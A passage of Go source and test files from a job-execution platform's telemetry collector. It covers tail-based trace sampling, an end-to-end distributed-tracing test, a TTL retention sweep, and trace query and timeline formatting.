		pt.hasError = true
	}
}

// evict removes and decides every trace idle past the linger window
// (or all traces, when flushAll is set — the shutdown path). It
// returns the spans of kept traces for persistence.
func (t *tailBuffer) evict(flushAll bool) []spanRec {
	t.mu.Lock()
	var expired []*pendingTrace
	var ids []string
	now := t.clk.Now()
	for id, pt := range t.traces {
		if flushAll || now.Sub(pt.lastSeen) >= t.cfg.Linger {
			expired = append(expired, pt)
			ids = append(ids, id)
		}
	}
	for _, id := range ids {
		delete(t.traces, id)
	}
	t.pending.Add(-float64(len(ids)))
	// One threshold per eviction batch: the quantile over everything
	// decided so far, before this batch's durations fold in.
	slow := t.hist.Snapshot()
	t.mu.Unlock()

	var out []spanRec
	threshold := slow.Quantile(t.cfg.SlowQuantile)
	trustSlow := slow.Count >= uint64(t.cfg.MinSamples)
	for i, pt := range expired {
		if pt.rootDur >= 0 {
			t.hist.Observe(pt.rootDur)
		}
		switch {
		case pt.hasError:
			t.kept[tailReasonError].Inc()
			out = append(out, pt.spans...)
		case trustSlow && pt.rootDur >= 0 && pt.rootDur >= threshold:
			t.kept[tailReasonSlow].Inc()
			out = append(out, pt.spans...)
		// The "tail|" salt decorrelates this hash from the head
		// sampler's: without it, head-surviving traces would all land
		// on the same side of the tail threshold and KeepRate would
		// silently become 0 or 1.
		case t.keep.Keep("tail|" + ids[i]):
			t.kept[tailReasonSampled].Inc()
			out = append(out, pt.spans...)
		default:
			t.droppedTraces.Inc()
			t.droppedSpans.Add(float64(len(pt.spans)))
		}
	}
	return out
}
