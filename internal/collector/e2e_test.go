package collector_test

import (
	"bytes"
	"context"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"rai/internal/archivex"
	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/build"
	"rai/internal/cnn"
	"rai/internal/collector"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/telemetry"
	"rai/internal/vfs"
)

// TestEndToEndConnectedTrace runs a real job through the full
// observability pipeline — client and worker over the broker, storage
// over HTTP with trace headers, every service exporting through a
// bounded exporter, one collector persisting — and asserts the
// acceptance criterion: `raiadmin trace <job_id>` sees one connected
// span tree covering client, broker enqueue/dequeue, worker build/run,
// and a child span inside each storage server, with zero drops.
func TestEndToEndConnectedTrace(t *testing.T) {
	b := broker.New()
	defer b.Close()
	queue := core.BrokerQueue{B: b}

	// Each service gets its own exporter, all shipping onto the same
	// telemetry route; the test doubles as the happy-path drop check.
	exporters := map[string]*telemetry.Exporter{}
	newTracer := func(service string) *telemetry.Tracer {
		exp := telemetry.NewExporter(context.Background(), service, core.ShipTelemetry(queue))
		exporters[service] = exp
		return telemetry.NewTracer(1024, telemetry.WithSpanSink(exp.ExportSpan),
			telemetry.WithTracerInstance(service))
	}

	// Storage over HTTP so the X-RAI trace headers actually cross a wire
	// and the servers contribute their own child spans.
	objStore := objstore.New()
	objSrv := httptest.NewServer(objstore.Handler(objStore, nil,
		objstore.WithHandlerTracer(newTracer("raifs"))))
	defer objSrv.Close()
	db := docstore.New()
	dbSrv := httptest.NewServer(docstore.Handler(db, nil,
		docstore.WithHandlerTracer(newTracer("raidb"))))
	defer dbSrv.Close()

	authReg := auth.NewRegistry()
	creds, err := authReg.Issue("team-trace")
	if err != nil {
		t.Fatal(err)
	}

	dataFS := vfs.New()
	nw := cnn.NewNetwork(408)
	model, err := nw.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	dataFS.WriteFile("/data/model.hdf5", model)
	small, _ := cnn.SynthesizeDataset(nw, 5, 10)
	blob, _ := small.Encode()
	dataFS.WriteFile("/data/test10.hdf5", blob)
	full, _ := cnn.SynthesizeDataset(nw, 6, 20)
	blob, _ = full.Encode()
	dataFS.WriteFile("/data/testfull.hdf5", blob)

	worker := &core.Worker{
		Cfg:      core.WorkerConfig{ID: "w1", MaxConcurrent: 1},
		Queue:    queue,
		Objects:  objstore.NewClient(objSrv.URL),
		DB:       docstore.NewClient(dbSrv.URL),
		Auth:     authReg,
		Images:   registry.NewCourseRegistry(),
		DataFS:   dataFS,
		DataPath: "/data",
		Tracer:   newTracer("raiworker"),
	}
	worker.Log = telemetry.NewLogger("raiworker",
		telemetry.WithLogSink(exporters["raiworker"].ExportEvent))

	client := &core.Client{
		Creds:   creds,
		Queue:   queue,
		Objects: objstore.NewClient(objSrv.URL),
		Stdout:  &bytes.Buffer{},
		LogWait: time.Minute,
		Tracer:  newTracer("rai"),
	}
	client.Log = telemetry.NewLogger("rai",
		telemetry.WithLogSink(exporters["rai"].ExportEvent))

	// The collector persists into the same metadata store the job record
	// lands in, over the same HTTP server (so its writes are traced
	// infrastructure too, though its own spans are not part of this job).
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	coll := &collector.Collector{Queue: queue, DB: docstore.NewClient(dbSrv.URL)}
	collDone := make(chan error, 1)
	go func() { collDone <- coll.Run(ctx) }()

	// Run one job end to end.
	projFS := vfs.New()
	if err := project.WriteTo(projFS, "/p", project.Spec{Impl: cnn.ImplIm2col, Team: "team-trace"}); err != nil {
		t.Fatal(err)
	}
	archive, err := archivex.PackVFS(projFS, "/p")
	if err != nil {
		t.Fatal(err)
	}
	type out struct {
		res *core.JobResult
		err error
	}
	done := make(chan out, 1)
	go func() {
		res, err := client.SubmitContext(context.Background(), core.KindRun, build.Default(), archive)
		done <- out{res, err}
	}()
	if _, err := worker.HandleOne(context.Background(), 10*time.Second); err != nil {
		t.Fatal(err)
	}
	var res *core.JobResult
	select {
	case o := <-done:
		if o.err != nil {
			t.Fatalf("submit: %v", o.err)
		}
		res = o.res
	case <-time.After(30 * time.Second):
		t.Fatal("client did not finish")
	}
	if res.Status != core.StatusSucceeded {
		t.Fatalf("job status = %q", res.Status)
	}

	// Push everything through: exporters flush their partial batches, the
	// collector persists them (poll — it acks asynchronously).
	for _, exp := range exporters {
		exp.Flush()
	}
	required := []string{"job", "upload", "enqueue", "dequeue", "download", "build", "run"}
	var spans []collector.Span
	deadline := time.Now().Add(10 * time.Second)
	for {
		spans, err = collector.TraceByJob(db, res.JobID)
		if have := spanNames(spans); err == nil && containsAll(have, required) &&
			hasServicePrefix(spans, "raifs", "objstore") && hasServicePrefix(spans, "raidb", "docstore") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("trace incomplete after flush: err=%v spans=%v", err, spanNames(spans))
		}
		time.Sleep(10 * time.Millisecond)
	}

	// One tree, fully connected, phases present.
	timeline := collector.FormatTimeline(spans)
	if strings.Contains(timeline, "not fully connected") {
		t.Errorf("trace not connected:\n%s", timeline)
	}
	traceID := spans[0].TraceID
	for _, s := range spans {
		if s.TraceID != traceID {
			t.Errorf("span %s has trace %s, want %s", s.Name, s.TraceID, traceID)
		}
	}
	phases := map[string]bool{}
	for _, p := range collector.Phases(spans) {
		phases[p.Name] = p.Duration >= 0
	}
	for _, want := range []string{"upload", "enqueue", "download", "build", "run", "total"} {
		if !phases[want] {
			t.Errorf("phase %q missing from decomposition (timeline:\n%s)", want, timeline)
		}
	}

	// The job's merged event stream crossed services.
	events, err := collector.EventsByJob(db, res.JobID, 0)
	if err != nil {
		t.Fatal(err)
	}
	msgs := map[string]bool{}
	for _, e := range events {
		msgs[e.Service+": "+e.Msg] = true
	}
	for _, want := range []string{"rai: job submitted", "raiworker: job dequeued", "raiworker: job finished"} {
		if !msgs[want] {
			t.Errorf("event stream missing %q (have %v)", want, msgs)
		}
	}

	// Acceptance: the happy path drops nothing.
	for service, exp := range exporters {
		if ds, de := exp.Dropped(); ds != 0 || de != 0 {
			t.Errorf("%s exporter dropped %d spans / %d events on the happy path", service, ds, de)
		}
		exp.Close()
	}
	cancel()
	select {
	case <-collDone:
	case <-time.After(5 * time.Second):
		t.Fatal("collector did not stop")
	}
}

func spanNames(spans []collector.Span) []string {
	names := make([]string, len(spans))
	for i, s := range spans {
		names[i] = s.Name
	}
	return names
}

func containsAll(have []string, want []string) bool {
	set := map[string]bool{}
	for _, n := range have {
		set[n] = true
	}
	for _, n := range want {
		if !set[n] {
			return false
		}
	}
	return true
}

// hasServicePrefix reports whether some span was emitted by service and
// named with the given prefix (e.g. raifs's "objstore put").
func hasServicePrefix(spans []collector.Span, service, prefix string) bool {
	for _, s := range spans {
		if s.Service == service && strings.HasPrefix(s.Name, prefix) {
			return true
		}
	}
	return false
}
