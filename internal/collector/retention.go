package collector

// Retention sweep: the traces and events collections are append-only
// under load, and nothing deleted them before this — the collector's
// own storage was the one unbounded buffer left in the pipeline. The
// sweep deletes documents whose time field has fallen behind the
// retention horizon, using the float unix-second fields persistSpan
// and persistEvent already write for range queries.

import (
	"context"
	"fmt"
	"time"

	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/telemetry"
)

// RetentionConfig tunes the TTL sweep. The zero value disables it.
type RetentionConfig struct {
	// Retain is how long traces and events are kept. Zero disables the
	// sweep (the pre-PR-8 unbounded behavior, for archival deployments
	// that sweep externally).
	Retain time.Duration
	// Interval is the sweep period (default Retain/12, clamped to
	// [1 minute, 1 hour]). Small intervals are honored exactly, which
	// tests rely on.
	Interval time.Duration
}

func (c RetentionConfig) withDefaults() RetentionConfig {
	if c.Retain <= 0 {
		return c
	}
	if c.Interval <= 0 {
		c.Interval = c.Retain / 12
		if c.Interval < time.Minute {
			c.Interval = time.Minute
		}
		if c.Interval > time.Hour {
			c.Interval = time.Hour
		}
	}
	return c
}

// RunRetention sweeps expired telemetry until ctx is done. It is a
// no-op (returns immediately) when cfg.Retain is zero. Run it in its
// own goroutine alongside Run.
func (c *Collector) RunRetention(ctx context.Context, cfg RetentionConfig) {
	cfg = cfg.withDefaults()
	if cfg.Retain <= 0 {
		return
	}
	clk := c.clock()
	deleted := map[string]*telemetry.Counter{}
	for _, coll := range []string{core.CollTraces, core.CollEvents} {
		deleted[coll] = c.Telemetry.Counter("rai_collector_retention_deleted_total",
			"telemetry documents deleted by the TTL sweep", telemetry.L("coll", coll))
	}
	sweeps := c.Telemetry.Counter("rai_collector_retention_sweeps_total", "TTL sweep passes completed")
	for {
		select {
		case <-ctx.Done():
			return
		case <-clk.After(cfg.Interval):
			cutoff := unixSeconds(clk.Now().Add(-cfg.Retain))
			for coll, field := range map[string]string{core.CollTraces: "start_s", core.CollEvents: "ts_s"} {
				n, err := c.SweepExpired(ctx, coll, field, cutoff)
				if err != nil {
					c.Log.Warn(ctx, "retention sweep failed",
						telemetry.L("coll", coll), telemetry.L("error", err.Error()))
					continue
				}
				deleted[coll].Add(float64(n))
			}
			sweeps.Inc()
		}
	}
}

// SweepExpired deletes documents in coll whose field predates cutoff
// (float unix seconds) and reports how many went away.
func (c *Collector) SweepExpired(ctx context.Context, coll, field string, cutoff float64) (int, error) {
	filter := docstore.M{field: docstore.M{"$lt": cutoff}}
	type ctxDeleter interface {
		DeleteContext(ctx context.Context, coll string, filter docstore.M) (int, error)
	}
	if d, ok := c.DB.(ctxDeleter); ok {
		n, err := d.DeleteContext(ctx, coll, filter)
		if err != nil {
			return 0, fmt.Errorf("collector: sweeping %s: %w", coll, err)
		}
		return n, nil
	}
	n, err := c.DB.Delete(coll, filter)
	if err != nil {
		return 0, fmt.Errorf("collector: sweeping %s: %w", coll, err)
	}
	return n, nil
}
