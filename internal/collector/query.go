package collector

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/telemetry"
)

// Span is a persisted span plus the service that emitted it.
type Span struct {
	telemetry.SpanData
	Service string
}

// TraceIDForJob resolves a job to its trace by finding any persisted
// span stamped with the job's ID (the client root and the worker
// dequeue span both are).
func TraceIDForJob(db docstore.Store, jobID string) (string, error) {
	doc, err := db.FindOne(core.CollTraces, docstore.M{"job_id": jobID})
	if err != nil {
		return "", fmt.Errorf("collector: no spans recorded for job %s: %w", jobID, err)
	}
	id, _ := doc["trace_id"].(string)
	if id == "" {
		return "", fmt.Errorf("collector: span document for job %s lacks trace_id", jobID)
	}
	return id, nil
}

// TraceSpans loads every persisted span of a trace, ordered by start
// time (root first on ties).
func TraceSpans(db docstore.Store, traceID string) ([]Span, error) {
	docs, err := db.Find(core.CollTraces, docstore.M{"trace_id": traceID}, docstore.FindOpts{})
	if err != nil {
		return nil, err
	}
	spans := make([]Span, 0, len(docs))
	for _, d := range docs {
		spans = append(spans, spanFromDoc(d))
	}
	sort.SliceStable(spans, func(i, j int) bool {
		if !spans[i].Start.Equal(spans[j].Start) {
			return spans[i].Start.Before(spans[j].Start)
		}
		return spans[i].ParentID == "" && spans[j].ParentID != ""
	})
	return spans, nil
}

// TraceByJob resolves jobID to its trace and loads the spans.
func TraceByJob(db docstore.Store, jobID string) ([]Span, error) {
	traceID, err := TraceIDForJob(db, jobID)
	if err != nil {
		return nil, err
	}
	return TraceSpans(db, traceID)
}

// EventsByJob loads a job's merged event stream across services,
// ordered by time. Events after sinceS (unix seconds, exclusive) only;
// pass 0 for everything. The follow mode of raiadmin logs polls with an
// advancing sinceS.
func EventsByJob(db docstore.Store, jobID string, sinceS float64) ([]telemetry.Event, error) {
	filter := docstore.M{"job_id": jobID}
	if sinceS > 0 {
		filter["ts_s"] = docstore.M{"$gt": sinceS}
	}
	docs, err := db.Find(core.CollEvents, filter, docstore.FindOpts{Sort: []string{"ts_s"}})
	if err != nil {
		return nil, err
	}
	events := make([]telemetry.Event, 0, len(docs))
	for _, d := range docs {
		events = append(events, eventFromDoc(d))
	}
	return events, nil
}

// EventUnixSeconds reports an event's timestamp in the ts_s scale, for
// advancing a follow cursor.
func EventUnixSeconds(e telemetry.Event) float64 { return unixSeconds(e.Time) }

func spanFromDoc(d docstore.M) Span {
	s := Span{}
	s.TraceID, _ = d["trace_id"].(string)
	s.SpanID, _ = d["span_id"].(string)
	s.ParentID, _ = d["parent_id"].(string)
	s.Name, _ = d["name"].(string)
	s.Service, _ = d["service"].(string)
	s.Start = parseTime(d["start"])
	s.End = parseTime(d["end"])
	if attrs, ok := d["attrs"].(map[string]any); ok {
		s.Attrs = map[string]string{}
		for k, v := range attrs {
			if sv, ok := v.(string); ok {
				s.Attrs[k] = sv
			}
		}
	} else if attrs, ok := d["attrs"].(docstore.M); ok {
		s.Attrs = map[string]string{}
		for k, v := range attrs {
			if sv, ok := v.(string); ok {
				s.Attrs[k] = sv
			}
		}
	}
	return s
}

func eventFromDoc(d docstore.M) telemetry.Event {
	e := telemetry.Event{}
	e.Time = parseTime(d["ts"])
	e.Level, _ = d["level"].(string)
	e.Service, _ = d["service"].(string)
	e.Msg, _ = d["msg"].(string)
	e.TraceID, _ = d["trace_id"].(string)
	e.SpanID, _ = d["span_id"].(string)
	e.JobID, _ = d["job_id"].(string)
	if attrs, ok := d["attrs"].(map[string]any); ok {
		e.Attrs = map[string]string{}
		for k, v := range attrs {
			if sv, ok := v.(string); ok {
				e.Attrs[k] = sv
			}
		}
	} else if attrs, ok := d["attrs"].(docstore.M); ok {
		e.Attrs = map[string]string{}
		for k, v := range attrs {
			if sv, ok := v.(string); ok {
				e.Attrs[k] = sv
			}
		}
	}
	return e
}

func parseTime(v any) time.Time {
	s, _ := v.(string)
	t, _ := time.Parse(time.RFC3339Nano, s)
	return t
}

// Phase is one row of the Figure 4 decomposition.
type Phase struct {
	Name     string
	Duration time.Duration
}

// Phases decomposes a job's span tree into the paper's per-phase
// durations: upload, enqueue, queue delay (enqueue end to worker
// pickup), download, cache (build-cache lookup), build, run, and
// total. Phases absent from the
// trace are omitted; repeated spans (several build commands) sum.
func Phases(spans []Span) []Phase {
	var (
		total                           time.Duration
		byName                          = map[string]time.Duration{}
		enqueueEnd, dequeueStart        time.Time
		haveEnqueue, haveDequeue, haveT bool
	)
	for _, s := range spans {
		switch s.Name {
		case "job":
			total = s.Duration()
			haveT = true
		case "enqueue":
			byName["enqueue"] += s.Duration()
			enqueueEnd = s.End
			haveEnqueue = true
		case "dequeue":
			dequeueStart = s.Start
			haveDequeue = true
		case "upload", "download", "cache", "build", "run":
			byName[s.Name] += s.Duration()
		}
	}
	var out []Phase
	add := func(name string) {
		if d, ok := byName[name]; ok {
			out = append(out, Phase{name, d})
		}
	}
	add("upload")
	add("enqueue")
	if haveEnqueue && haveDequeue && dequeueStart.After(enqueueEnd) {
		out = append(out, Phase{"queue delay", dequeueStart.Sub(enqueueEnd)})
	}
	add("download")
	add("cache")
	add("build")
	add("run")
	if haveT {
		out = append(out, Phase{"total", total})
	}
	return out
}

// FormatTimeline renders a trace the way raiadmin trace prints it: the
// span tree (indented, with service and duration per span) followed by
// the per-phase decomposition.
func FormatTimeline(spans []Span) string {
	if len(spans) == 0 {
		return "no spans recorded\n"
	}
	byID := map[string]bool{}
	for _, s := range spans {
		byID[s.SpanID] = true
	}
	children := map[string][]Span{}
	var roots []Span
	for _, s := range spans {
		if s.ParentID == "" || !byID[s.ParentID] {
			roots = append(roots, s)
			continue
		}
		children[s.ParentID] = append(children[s.ParentID], s)
	}
	var b strings.Builder
	var walk func(s Span, depth int)
	walk = func(s Span, depth int) {
		fmt.Fprintf(&b, "%s%-*s %12v  [%s]\n",
			strings.Repeat("  ", depth), 30-2*depth, s.Name, s.Duration().Round(time.Microsecond), s.Service)
		for _, c := range children[s.SpanID] {
			walk(c, depth+1)
		}
	}
	for _, r := range roots {
		walk(r, 0)
	}
	phases := Phases(spans)
	if len(phases) > 0 {
		b.WriteString("\nphase durations:\n")
		for _, p := range phases {
			fmt.Fprintf(&b, "  %-12s %12v\n", p.Name, p.Duration.Round(time.Microsecond))
		}
	}
	if !connected(spans) {
		b.WriteString("\nwarning: trace is not fully connected (spans missing or still in flight)\n")
	}
	return b.String()
}

// connected mirrors telemetry.Connected over persisted spans.
func connected(spans []Span) bool {
	data := make([]telemetry.SpanData, len(spans))
	for i, s := range spans {
		data[i] = s.SpanData
	}
	return telemetry.Connected(data)
}
