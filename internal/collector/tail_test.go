package collector

import (
	"context"
	"fmt"
	"testing"
	"time"

	"rai/internal/broker"
	"rai/internal/clock"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/telemetry"
)

func newTestTail(cfg TailConfig) (*tailBuffer, *clock.Virtual, *telemetry.Registry) {
	clk := clock.NewVirtual(t0)
	reg := telemetry.NewRegistry()
	return newTailBuffer(cfg, clk, reg), clk, reg
}

func counterValue(t *testing.T, reg *telemetry.Registry, name string, labels ...telemetry.Label) float64 {
	t.Helper()
	v, _ := reg.Value(name, labels...)
	return v
}

// TestTailKeepsErrorTraces: a trace with any error marker survives even
// at KeepRate 0 — the whole point of deciding at the tail.
func TestTailKeepsErrorTraces(t *testing.T) {
	for _, mark := range []map[string]string{
		{"status": "failed"},
		{"status": "rejected"},
		{"error": "exploded"},
	} {
		tail, clk, reg := newTestTail(TailConfig{Linger: time.Second, KeepRate: 0})
		tail.add("raiworker", span("tr-err", "s1", "", "job", 0, time.Second, mark))
		tail.add("raiworker", span("tr-err", "s2", "s1", "run", 0, time.Second, nil))
		tail.add("rai", span("tr-ok", "s3", "", "job", 0, time.Second, nil))
		clk.Advance(2 * time.Second)
		kept := tail.evict(false)
		if len(kept) != 2 {
			t.Fatalf("mark %v: kept %d spans, want the 2 error-trace spans", mark, len(kept))
		}
		for _, r := range kept {
			if r.data.TraceID != "tr-err" {
				t.Fatalf("mark %v: kept wrong trace %s", mark, r.data.TraceID)
			}
		}
		if got := counterValue(t, reg, "rai_collector_tail_kept_total", telemetry.L("reason", tailReasonError)); got != 1 {
			t.Errorf("mark %v: kept{error} = %v, want 1", mark, got)
		}
		if got := counterValue(t, reg, "rai_collector_tail_dropped_total"); got != 1 {
			t.Errorf("mark %v: dropped = %v, want 1", mark, got)
		}
	}
}

// TestTailKeepsSlowTraces: once enough root durations have been
// observed, traces at or above the slow quantile survive KeepRate 0.
func TestTailKeepsSlowTraces(t *testing.T) {
	tail, clk, reg := newTestTail(TailConfig{
		Linger: time.Second, KeepRate: 0, SlowQuantile: 0.9, MinSamples: 8,
	})
	// Warm the distribution with 20 fast traces spread over 10-48 ms (a
	// degenerate all-equal distribution would put everything at p90).
	for i := 0; i < 20; i++ {
		id := fmt.Sprintf("warm-%d", i)
		tail.add("rai", span(id, id+"-s", "", "job", 0, time.Duration(10+2*i)*time.Millisecond, nil))
	}
	clk.Advance(2 * time.Second)
	tail.evict(false)

	// Now one glacial trace and one more fast one.
	tail.add("rai", span("tr-slow", "sl", "", "job", 0, 10*time.Second, nil))
	tail.add("rai", span("tr-fast", "fa", "", "job", 0, 10*time.Millisecond, nil))
	clk.Advance(2 * time.Second)
	kept := tail.evict(false)
	if len(kept) != 1 || kept[0].data.TraceID != "tr-slow" {
		t.Fatalf("kept = %v, want only tr-slow", kept)
	}
	if got := counterValue(t, reg, "rai_collector_tail_kept_total", telemetry.L("reason", tailReasonSlow)); got != 1 {
		t.Errorf("kept{slow} = %v, want 1", got)
	}
}

// TestTailColdStartDoesNotGuessSlow: before MinSamples observations the
// slow detector must stay quiet instead of flagging everything slow.
func TestTailColdStartDoesNotGuessSlow(t *testing.T) {
	tail, clk, reg := newTestTail(TailConfig{Linger: time.Second, KeepRate: 0, MinSamples: 100})
	for i := 0; i < 10; i++ {
		id := fmt.Sprintf("tr-%d", i)
		tail.add("rai", span(id, id+"-s", "", "job", 0, time.Duration(i+1)*time.Second, nil))
	}
	clk.Advance(2 * time.Second)
	if kept := tail.evict(false); len(kept) != 0 {
		t.Fatalf("cold tail kept %d spans, want 0", len(kept))
	}
	if got := counterValue(t, reg, "rai_collector_tail_kept_total", telemetry.L("reason", tailReasonSlow)); got != 0 {
		t.Errorf("kept{slow} = %v before MinSamples, want 0", got)
	}
}

// TestTailDownsamplesBoring: boring traces are kept at roughly KeepRate,
// and every decision is counted — kept + dropped == decided.
func TestTailDownsamplesBoring(t *testing.T) {
	tail, clk, reg := newTestTail(TailConfig{Linger: time.Second, KeepRate: 0.5, MinSamples: 1 << 30})
	const n = 400
	for i := 0; i < n; i++ {
		id := fmt.Sprintf("tr-%d", i)
		tail.add("rai", span(id, id+"-s", "", "job", 0, time.Second, nil))
	}
	clk.Advance(2 * time.Second)
	kept := tail.evict(false)
	sampled := counterValue(t, reg, "rai_collector_tail_kept_total", telemetry.L("reason", tailReasonSampled))
	dropped := counterValue(t, reg, "rai_collector_tail_dropped_total")
	if sampled+dropped != n {
		t.Fatalf("kept %v + dropped %v != %d decided", sampled, dropped, n)
	}
	if int(sampled) != len(kept) {
		t.Fatalf("kept counter %v disagrees with %d returned spans", sampled, len(kept))
	}
	// 5-sigma band around the binomial mean, same tolerance the sampler
	// tests use.
	if sampled < 100 || sampled > 300 {
		t.Errorf("kept %v of %d at rate 0.5 — hash badly biased", sampled, n)
	}
	if spans := counterValue(t, reg, "rai_collector_tail_spans_dropped_total"); spans != dropped {
		t.Errorf("spans_dropped = %v, want %v (one span per trace)", spans, dropped)
	}
}

// TestTailLingerRestartsOnNewSpans: a trace still receiving spans must
// not be evicted mid-flight.
func TestTailLingerRestartsOnNewSpans(t *testing.T) {
	tail, clk, _ := newTestTail(TailConfig{Linger: time.Second, KeepRate: 1})
	tail.add("rai", span("tr1", "s1", "", "job", 0, time.Second, nil))
	clk.Advance(900 * time.Millisecond)
	tail.add("raiworker", span("tr1", "s2", "s1", "run", 0, time.Second, nil))
	clk.Advance(900 * time.Millisecond)
	if kept := tail.evict(false); len(kept) != 0 {
		t.Fatalf("trace evicted %d spans while still active", len(kept))
	}
	clk.Advance(200 * time.Millisecond)
	if kept := tail.evict(false); len(kept) != 2 {
		t.Fatalf("idle trace kept %d spans, want 2", len(kept))
	}
}

// TestCollectorRunWithTail drives the full Run loop: error and boring
// traces arrive over the broker, and only the error trace (plus every
// event) reaches the store. Uses a real clock with a short linger — the
// Run loop owns its timers, so this is the honest integration check.
func TestCollectorRunWithTail(t *testing.T) {
	b := broker.New()
	defer b.Close()
	queue := core.BrokerQueue{B: b}
	db := docstore.New()
	reg := telemetry.NewRegistry()
	c := &Collector{
		Queue: queue, DB: db, Telemetry: reg,
		Tail: TailConfig{Linger: 20 * time.Millisecond, KeepRate: 0, MinSamples: 1 << 30},
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() { done <- c.Run(ctx) }()

	batch := &Batch{
		Service: "raiworker",
		Spans: []telemetry.SpanData{
			span("tr-err", "s1", "", "job", 0, time.Second, map[string]string{"status": "failed", "job_id": "j1"}),
			span("tr-ok", "s2", "", "job", 0, time.Second, map[string]string{"job_id": "j2"}),
		},
		Events: []telemetry.Event{{
			Time: t0, Level: "info", Msg: "job dequeued", TraceID: "tr-ok", JobID: "j2",
		}},
	}
	if err := queue.Publish(ctx, core.TelemetryTopic, batch.Encode()); err != nil {
		t.Fatal(err)
	}

	deadline := time.Now().Add(5 * time.Second)
	for {
		if doc, err := db.FindOne(core.CollTraces, docstore.M{"trace_id": "tr-err"}); err == nil {
			if doc["span_id"] != "s1" {
				t.Fatalf("error span doc = %v", doc)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("error trace never persisted")
		}
		time.Sleep(time.Millisecond)
	}
	// Events must have landed immediately, not waited on the tail.
	if evs, err := EventsByJob(db, "j2", 0); err != nil || len(evs) != 1 {
		t.Fatalf("events = %v (err %v), want 1", evs, err)
	}
	// The boring trace must be gone for good.
	if _, err := db.FindOne(core.CollTraces, docstore.M{"trace_id": "tr-ok"}); err == nil {
		t.Fatal("boring trace persisted despite KeepRate 0")
	}
	if got := counterValue(t, reg, "rai_collector_tail_dropped_total"); got != 1 {
		t.Errorf("dropped = %v, want 1", got)
	}
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Run: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("collector did not stop on ctx cancel")
	}
}

// TestCollectorShutdownFlushesTail: traces still lingering when ctx is
// canceled must be decided and persisted, not dropped on the floor.
func TestCollectorShutdownFlushesTail(t *testing.T) {
	b := broker.New()
	defer b.Close()
	queue := core.BrokerQueue{B: b}
	db := docstore.New()
	reg := telemetry.NewRegistry()
	c := &Collector{
		Queue: queue, DB: db, Telemetry: reg,
		// Hour-long linger: nothing evicts except the shutdown flush.
		Tail: TailConfig{Linger: time.Hour, KeepRate: 1},
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- c.Run(ctx) }()

	batch := &Batch{Service: "rai", Spans: []telemetry.SpanData{
		span("tr1", "s1", "", "job", 0, time.Second, map[string]string{"job_id": "j1"}),
	}}
	if err := queue.Publish(ctx, core.TelemetryTopic, batch.Encode()); err != nil {
		t.Fatal(err)
	}
	// Wait for the batch to be buffered (the pending gauge flips to 1).
	deadline := time.Now().Add(5 * time.Second)
	for {
		if v, _ := reg.Value("rai_collector_tail_pending"); v == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("batch never buffered")
		}
		time.Sleep(time.Millisecond)
	}
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Run: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("collector did not stop")
	}
	if _, err := db.FindOne(core.CollTraces, docstore.M{"trace_id": "tr1"}); err != nil {
		t.Fatalf("lingering trace lost on shutdown: %v", err)
	}
}
