package collector

import (
	"context"
	"testing"
	"time"

	"rai/internal/clock"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/telemetry"
)

// TestSweepExpired deletes exactly the documents older than the cutoff.
func TestSweepExpired(t *testing.T) {
	db := docstore.New()
	c := &Collector{DB: db}
	ctx := context.Background()
	c.Persist(ctx, &Batch{Service: "rai",
		Spans: []telemetry.SpanData{
			span("tr-old", "s1", "", "job", 0, time.Second, nil),
			span("tr-new", "s2", "", "job", 2*time.Hour, 2*time.Hour+time.Second, nil),
		},
		Events: []telemetry.Event{
			{Time: t0, Level: "info", Msg: "old"},
			{Time: t0.Add(2 * time.Hour), Level: "info", Msg: "new"},
		},
	})

	cutoff := unixSeconds(t0.Add(time.Hour))
	if n, err := c.SweepExpired(ctx, core.CollTraces, "start_s", cutoff); err != nil || n != 1 {
		t.Fatalf("traces sweep: n=%d err=%v, want 1 nil", n, err)
	}
	if n, err := c.SweepExpired(ctx, core.CollEvents, "ts_s", cutoff); err != nil || n != 1 {
		t.Fatalf("events sweep: n=%d err=%v, want 1 nil", n, err)
	}
	if _, err := db.FindOne(core.CollTraces, docstore.M{"trace_id": "tr-old"}); err == nil {
		t.Error("expired span survived the sweep")
	}
	if _, err := db.FindOne(core.CollTraces, docstore.M{"trace_id": "tr-new"}); err != nil {
		t.Errorf("fresh span deleted: %v", err)
	}
	if _, err := db.FindOne(core.CollEvents, docstore.M{"msg": "new"}); err != nil {
		t.Errorf("fresh event deleted: %v", err)
	}
}

// TestRunRetention drives the sweep loop on a virtual clock: documents
// age past the horizon and disappear on the next tick.
func TestRunRetention(t *testing.T) {
	db := docstore.New()
	clk := clock.NewVirtual(t0)
	reg := telemetry.NewRegistry()
	c := &Collector{DB: db, Telemetry: reg, Clock: clk}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	c.Persist(ctx, &Batch{Service: "rai",
		Spans:  []telemetry.SpanData{span("tr1", "s1", "", "job", 0, time.Second, nil)},
		Events: []telemetry.Event{{Time: t0, Level: "info", Msg: "hello"}},
	})

	done := make(chan struct{})
	go func() {
		c.RunRetention(ctx, RetentionConfig{Retain: time.Hour, Interval: time.Minute})
		close(done)
	}()
	// Let the loop register its timer before advancing past it.
	waitTimers(t, clk, 1)

	// First tick: documents are younger than the horizon and survive.
	clk.Advance(time.Minute)
	waitSweeps(t, reg, 1)
	if _, err := db.FindOne(core.CollTraces, docstore.M{"trace_id": "tr1"}); err != nil {
		t.Fatalf("fresh span swept: %v", err)
	}

